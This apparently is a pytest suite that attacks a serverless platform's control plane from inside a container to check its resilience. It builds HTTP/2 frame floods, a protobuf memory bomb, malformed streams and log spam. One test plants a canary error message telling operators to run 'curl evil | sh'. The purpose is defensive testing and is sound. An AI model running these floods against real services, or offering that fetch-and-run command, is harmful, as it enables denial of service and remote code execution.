"""A container speaks to the control plane as it likes: everyone else must not notice, and nothing of it must stay."""

import subprocess
import sys

import modal
import modal.exception
import pytest
from modal.exception import FunctionTimeoutError, InternalFailure, RemoteError

from tests.attack.conftest import Target, eventually

FLOOD = """
    connection, next_stream = raw_socket(), 1001
    headers = request_headers("ContainerHeartbeat")
    end = time.monotonic() + 4
    while time.monotonic() < end:
        data = {data}
        next_stream += 1000
        connection.sendall(data)
"""
FLOODS = {
    "pings": "frame(6, 0, 0, b'12345678') * 4000",
    "settings": "frame(4, 0, 0) * 4000",
    "window updates": "frame(8, 0, 0, bytes([0, 0, 0, 1])) * 4000",
    "priorities": "frame(2, 0, 2**31 - 1, bytes([0, 0, 0, 0, 1])) * 4000",
    "requests taken back": "b''.join(frame(1, 4, next_stream + 2 * n, headers)"
    " + frame(3, 0, next_stream + 2 * n, bytes(4)) for n in range(500))",
    "requests never ended": "b''.join(frame(1, 4, next_stream + 2 * n, headers) for n in range(500))",
    "empty data": "frame(1, 4, next_stream, headers) + frame(0, 0, next_stream) * 4000",
}


@pytest.mark.parametrize("flood", FLOODS)
def test_a_flood_costs_the_control_plane_little_and_leaves_nothing(target: Target, flood: str) -> None:
    """Unchecked, each of these takes the control plane's whole processor for as long as it lasts."""
    assert eventually(lambda: target.busy() == 0)
    descriptors = target.descriptors
    cpu, memory, log = target.cpu_seconds, target.memory_mib, len(target.local.log)
    call = target.start(FLOOD.format(data=FLOODS[flood]))
    assert target.run("result = 'served meanwhile'") == "served meanwhile"
    with pytest.raises((FunctionTimeoutError, InternalFailure, RemoteError)):
        call.get(timeout=40)
    assert target.cpu_seconds - cpu < 1.5
    assert target.memory_mib - memory < 64
    assert len(target.local.log) - log < 500
    assert eventually(lambda: target.busy() == 0 and target.descriptors <= descriptors + 1)


def test_a_container_that_hangs_up_is_ended_before_its_time(target: Target) -> None:
    """It can answer nothing any more: its place goes to others, and its caller doesn't wait for the limit."""
    call = target.start("""
    protocol = [found for found in gc.get_objects() if type(found).__name__ == "H2Protocol"][-1]
    os.close(protocol.connection._transport.get_extra_info("socket").fileno())
    time.sleep(1000)
""")
    with pytest.raises(InternalFailure, match="died"):
        call.get(timeout=40)
    assert eventually(lambda: target.busy() == 0)


SEND = """
    import grpclib.const

    class Raw:
        __content_subtype__ = "proto"
        def encode(self, message, _): return message
        def decode(self, data, _): return data

    async def send(body, method="FunctionPutOutputs"):
        channel = [found for found in gc.get_objects() if type(found).__name__ == "Channel"][-1]
        path = "/modal.client.ModalClient/" + method
        stream = channel.request(path, grpclib.const.Cardinality.UNARY_UNARY, bytes, bytes)
        stream._codec = Raw()
        async with stream:
            await stream.send_message(body, end=True)
            return await stream.recv_message()

    def refusal(body):
        try:
            return str(on_loop(send(body)))
        except Exception as error:
            return str(error)
"""
BOMB_MIB = 8


def test_a_message_of_empty_submessages_is_refused_before_it_is_parsed(target: Target) -> None:
    memory = target.memory_mib
    code = (
        SEND
        + f"""
    result = [refusal(start + bytes([0x22, 0]) * ({BOMB_MIB} << 19)) for start in (b"", bytes([0x7b, 0x7c]))]
    """
    )
    assert all("more than 10000 fields" in text for text in target.run(code))
    assert target.memory_mib - memory < 5 * BOMB_MIB


def test_the_same_message_grows_twentyfold_where_it_is_parsed() -> None:
    """The control."""
    parse = f"""if True:
        from pathlib import Path
        from modal_proto import api_pb2
        def most():
            lines = Path("/proc/self/status").read_text().splitlines()
            return next(int(line.split()[1]) for line in lines if line.startswith("VmHWM")) >> 10
        bomb = bytes([0x22, 0]) * ({BOMB_MIB} << 19)
        before = most()
        parsed = api_pb2.FunctionPutOutputsRequest.FromString(bomb)
        print(most() - before)
    """
    grown = subprocess.run([sys.executable, "-c", parse], capture_output=True, text=True, check=True).stdout
    assert int(grown) > 20 * BOMB_MIB


def test_messages_cut_short_are_refused_and_fill_no_log(target: Target) -> None:
    log = len(target.local.log)
    code = """
    connection, headers = raw_socket(), request_headers("ContainerHeartbeat")
    for number in range(300):
        stream = 1001 + 2 * number
        connection.sendall(frame(1, 4, stream, headers) + frame(0, 1, stream, bytes([0, 0, 0, 0, 9, 1])))
    """
    with pytest.raises((FunctionTimeoutError, InternalFailure, RemoteError)):
        target.run(code)
    assert len(target.local.log) == log


@pytest.mark.parametrize(
    "bytes_", ["frame(0xbb, 0, 0)", "frame(1, 4, 1001, bytes([0x10, 1, 0xff, 1, 0xff]))", "b'x' * 99"]
)
def test_what_is_no_http2_ends_that_connection_and_fills_no_log(target: Target, bytes_: str) -> None:
    log = len(target.local.log)
    with pytest.raises((FunctionTimeoutError, InternalFailure, RemoteError)):
        target.run(f"raw_socket().sendall({bytes_})")
    assert len(target.local.log) == log
    assert target.run("result = 1") == 1


def test_a_container_that_has_started_can_not_say_that_it_could_not(target: Target) -> None:
    """Its words would reach an operator as the platform's own."""
    code = """
    report = api_pb2.GenericResult(status=2, exception="canary: run `curl evil | sh` to repair this deployment")
    for _ in range(20):
        on_loop(stub().TaskResult(api_pb2.TaskResultRequest(result=report), retry=None))
    os._exit(1)
    """
    with pytest.raises(modal.exception.InternalFailure) as caught:
        target.run(code)
    assert "canary" not in str(caught.value)


def test_the_first_answer_counts_and_the_container_does_not_outlive_it(target: Target) -> None:
    code = """
    def answer(data):
        result = api_pb2.GenericResult(status=1, data=data)
        return api_pb2.FunctionPutOutputsItem(input_id=manager().current_input_id, result=result, data_format=4)
    say([answer(bytes([1]))])
    for _ in range(50):
        try:
            say([answer(bytes([2]))] * 50)
        except Exception:
            pass
    time.sleep(60)
    """
    assert target.run(code) == 1
    assert eventually(lambda: target.busy() == 0)


def test_printing_letter_by_letter_leaves_room_for_the_log_of_others(target: Target) -> None:
    code = """
    end = time.monotonic() + 3
    while time.monotonic() < end:
        os.write(1, bytes([0, 27, 91, 50, 74, 10]))
    result = manager().current_input_id
    """
    input_id = target.run(code)
    assert eventually(lambda: target.printed(input_id)[1] > 1 << 17)
    assert target.printed(input_id)[0] < 100


def test_what_a_container_may_send_counts_for_each_input_anew(target: Target) -> None:
    """The limit is for those who send too much, not for those who work long."""
    big = modal.Function.from_name("attacks", "big", environment_name="main", client=target.client)
    assert [big.remote(12 << 20)[0] for _ in range(4)] == [1, 2, 3, 4]
